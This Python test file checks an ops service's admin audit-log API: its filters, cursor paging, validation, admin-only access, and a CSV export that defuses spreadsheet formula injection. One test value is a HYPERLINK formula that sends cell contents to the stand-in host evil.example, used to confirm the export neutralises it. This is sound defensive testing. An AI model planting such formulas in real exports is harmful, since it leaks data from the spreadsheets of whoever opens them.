"""Ops' audit trail as an admin reads it, through a real ops and PostgreSQL: each filter narrows,
pages follow one another whatever is recorded meanwhile, the CSV is one a spreadsheet opens
without running anything, and nobody else reads it."""

import csv
import io
from collections.abc import AsyncIterator
from datetime import datetime
from typing import Any

import httpx
import pytest
from opentelemetry.sdk.trace import TracerProvider
from sqlalchemy import func, select

from sstools.common.db import create_engine
from sstools.ops.store.audit import AuditLog

from .conftest import ops_on, password

AUDIT = "/api/admin/audit"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'


async def signed_in(ops: httpx.AsyncClient, username: str) -> dict[str, str]:
    reply = await ops.post("/api/auth/login", json={"username": username, "password": password(username)})
    assert reply.status_code == 200, reply.text
    return {"Authorization": f"Bearer {reply.json()['access_token']}"}


class Trail:
    """Writes records as ops' routes do (``AuditLog.record``) and reads the database's clock."""

    def __init__(self, database: str) -> None:
        self.engine = create_engine(database)
        self.log = AuditLog(self.engine)

    async def add(
        self, username: str, action: str, env: str = "", outcome: str = "ok", **detail: Any
    ) -> None:
        await self.log.record(
            service="agent", username=username, action=action, target_env=env, outcome=outcome, detail=detail
        )

    async def now(self) -> datetime:
        async with self.engine.connect() as connection:
            stamp = await connection.scalar(select(func.clock_timestamp()))
        assert isinstance(stamp, datetime)
        return stamp


@pytest.fixture
async def trail(database: str) -> AsyncIterator[Trail]:
    made = Trail(database)
    try:
        yield made
    finally:
        await made.engine.dispose()


async def test_each_filter_narrows_the_trail_and_pages_follow_one_another(
    database: str, tracer_provider: TracerProvider, trail: Trail
) -> None:
    async with ops_on(database, tracer_provider) as ops:
        root = await signed_in(ops, "root")
        await trail.add("oleg", "deploy_dashboard", "prod", dashboard_id=42)
        await trail.add("oleg", "deploy_dashboard", "dev", dashboard_id=42)
        between = await trail.now()
        await trail.add("anna", "superset_execute_sql", "prod", outcome="denied")
        await trail.add("oleg", "run_backup", "prod", outcome="failed")

        async def actions(**params: str) -> list[tuple[str, str, str, str]]:
            reply = await ops.get(AUDIT, params=params, headers=root)
            assert reply.status_code == 200, reply.text
            return [
                (entry["user"], entry["action"], entry["env"], entry["outcome"])
                for entry in reply.json()["items"]
            ]

        everything = await actions()
        assert everything == [  # newest first
            ("oleg", "run_backup", "prod", "failed"),
            ("anna", "superset_execute_sql", "prod", "denied"),
            ("oleg", "deploy_dashboard", "dev", "ok"),
            ("oleg", "deploy_dashboard", "prod", "ok"),
        ]
        assert await actions(user="anna") == [everything[1]]
        assert await actions(action="deploy_dashboard") == everything[2:]
        assert await actions(env="prod") == [everything[0], everything[1], everything[3]]
        assert await actions(outcome="failed") == [everything[0]]
        assert await actions(since=between.isoformat()) == everything[:2]
        assert await actions(until=between.isoformat()) == everything[2:]
        # who deployed what to prod
        assert await actions(action="deploy_dashboard", env="prod", until=between.isoformat()) == [
            everything[3]
        ]
        first = (await ops.get(AUDIT, params={"user": "oleg"}, headers=root)).json()["items"][-1]
        assert first["detail"] == {"dashboard_id": 42}
        assert first["service"] == "agent"

        # pages of two, newest first; a record made meanwhile is newer than them all: it does
        # not push one onto the next page again
        seen, cursor = [], None
        while True:
            params = {"user": "oleg", "limit": "2", **({"cursor": cursor} if cursor else {})}
            page = (await ops.get(AUDIT, params=params, headers=root)).json()
            seen += [entry["id"] for entry in page["items"]]
            if cursor is None:
                await trail.add("oleg", "run_backup", "dev")
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert len(seen) == len(set(seen)) == 3


async def test_bad_filters_are_refused_and_nobody_but_an_admin_reads_the_trail(
    database: str, tracer_provider: TracerProvider
) -> None:
    async with ops_on(database, tracer_provider) as ops:
        root, anna = await signed_in(ops, "root"), await signed_in(ops, "anna")
        for bad in (
            {"since": "yesterday"},
            {"since": "2026-12-01T10:00:00"},  # no zone: whose ten o'clock?
            {"since": "2026-12-02T00:00:00Z", "until": "2026-12-01T00:00:00Z"},
            {"env": "Prod!"},
            {"action": "drop table"},
            {"outcome": "x" * 41},
        ):
            for path in (AUDIT, AUDIT + ".csv"):
                reply = await ops.get(path, params=bad, headers=root)
                assert reply.status_code == 422, (path, bad, reply.text)
        for bad in ({"limit": "0"}, {"limit": "201"}):  # a page's (the CSV has them all)
            assert (await ops.get(AUDIT, params=bad, headers=root)).status_code == 422
        reply = await ops.get(AUDIT, params={"cursor": "bm90IG91cnM="}, headers=root)
        assert (reply.status_code, reply.json()["detail"]["code"]) == (422, "bad_cursor")

        for path in (AUDIT, AUDIT + ".csv"):
            refused = await ops.get(path, headers=anna)
            assert (refused.status_code, refused.json()["detail"]["code"]) == (403, "permission_denied")
            assert (await ops.get(path)).status_code == 401


async def test_the_csv_is_every_record_the_filters_name_and_runs_nothing_in_a_spreadsheet(
    database: str, tracer_provider: TracerProvider, trail: Trail
) -> None:
    async with ops_on(database, tracer_provider) as ops:
        root = await signed_in(ops, "root")
        await trail.add(FORMULA, "deploy_dashboard", "prod", note="=1+1")
        for name in ("@SUM(A1:A9)", "+1", "-1+2", 'plain, "quoted"\nname'):
            await trail.add(name, "run_backup", "prod")
        await trail.add("oleg", "run_backup", "dev")

        reply = await ops.get(AUDIT + ".csv", params={"env": "prod"}, headers=root)
        assert reply.status_code == 200, reply.text
        assert reply.headers["content-type"] == "text/csv; charset=utf-8"
        assert "attachment" in reply.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(reply.text)))
        assert list(rows[0]) == ["id", "at", "user", "service", "action", "env", "outcome", "detail"]
        # a proper writer: the quotes, the comma and the line break come back whole
        assert [row["user"] for row in rows] == [
            'plain, "quoted"\nname',
            "'-1+2",
            "'+1",
            "'@SUM(A1:A9)",
            "'" + FORMULA,
        ]
        assert rows[-1]["detail"] == '{"note": "=1+1"}'  # JSON: it starts with {, nothing to run
        assert {row["env"] for row in rows} == {"prod"}
        assert all(datetime.fromisoformat(row["at"]) for row in rows)
